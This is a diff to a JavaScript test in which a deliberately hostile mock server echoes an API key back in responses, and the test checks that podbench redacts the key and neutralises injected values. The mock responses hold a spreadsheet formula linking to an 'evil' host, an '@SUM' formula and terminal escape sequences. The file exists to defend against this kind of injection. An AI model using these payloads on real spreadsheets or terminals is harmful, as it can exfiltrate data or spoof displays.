@@ -34,34 +34,37 @@ const ESC = '\u001b';
 describe('a server that echoes the Authorization header', () => {
   it('leaves the key out of every record, report, stream and health sample', async () => {
     let n = 0;
-    server = await startHostileServer((req, res) => {
-      const auth = String(req.headers.authorization ?? '');
-      n += 1;
-      if (req.url === '/health') {
-        // Counts keyed by the key itself: podbench keeps the numbers, never the key.
-        return json(res, 200, { jobs: { [auth]: 1, inQueue: 0 }, workers: { ready: 1, [`k-${auth}`]: 2 } });
-      }
-      if (req.url?.startsWith('/runsync')) {
-        switch (n % 4) {
-          case 0:
-            return json(res, 500, `upstream said: your header was "${auth}"`);
-          case 1:
-            return json(res, 200, { id: `job-${auth}`, status: 'FAILED', error: `bad key ${auth}`, workerId: auth });
-          case 2:
-            return json(res, 400, { error: { message: `${ESC}[2J${ESC}]0;owned${ESC}\\ ${auth}` } });
-          default:
-            return json(res, 200, {
-              id: `=HYPERLINK("http://evil/?k=${n}")`,
-              status: 'COMPLETED',
-              delayTime: 1,
-              executionTime: 2,
-              workerId: '@SUM(1+1)',
-              output: [{ choices: [{ tokens: ['hi'] }], usage: { input: 1, output: 1 } }],
-            });
+    server = await startHostileServer(
+      (req, res) => {
+        const auth = String(req.headers.authorization ?? '');
+        n += 1;
+        if (req.url === '/health') {
+          // Counts keyed by the key itself: podbench keeps the numbers, never the key.
+          return json(res, 200, { jobs: { [auth]: 1, inQueue: 0 }, workers: { ready: 1, [`k-${auth}`]: 2 } });
         }
-      }
-      return json(res, 404, { error: `no route; you sent ${auth}` });
-    });
+        if (req.url?.startsWith('/runsync')) {
+          switch (n % 4) {
+            case 0:
+              return json(res, 500, `upstream said: your header was "${auth}"`);
+            case 1:
+              return json(res, 200, { id: `job-${auth}`, status: 'FAILED', error: `bad key ${auth}`, workerId: auth });
+            case 2:
+              return json(res, 400, { error: { message: `${ESC}[2J${ESC}]0;owned${ESC}\\ ${auth}` } });
+            default:
+              return json(res, 200, {
+                id: `=HYPERLINK("http://evil/?k=${n}")`,
+                status: 'COMPLETED',
+                delayTime: 1,
+                executionTime: 2,
+                workerId: '@SUM(1+1)',
+                output: [{ choices: [{ tokens: ['hi'] }], usage: { input: 1, output: 1 } }],
+              });
+          }
+        }
+        return json(res, 404, { error: `no route; you sent ${auth}` });
+      },
+      { health: false },
+    );
     const out = join(tempDir(), 'run');
     const scenario = hostileScenario(
       server.endpointUrl,
@@ -88,6 +91,9 @@ describe('a server that echoes the Authorization header', () => {
       expect(row.workerId).toBe("'@SUM(1+1)");
     }
     expect(readSummary(out).variants[0]?.counts.ok).toBe(ok.length);
+    // The /health samples kept the server's counts, under cleaned names.
+    const health = readFileSync(join(out, 'health.ndjson'), 'utf8');
+    expect(health).toContain('"Bearer [redacted]":1');
   });
 });
 
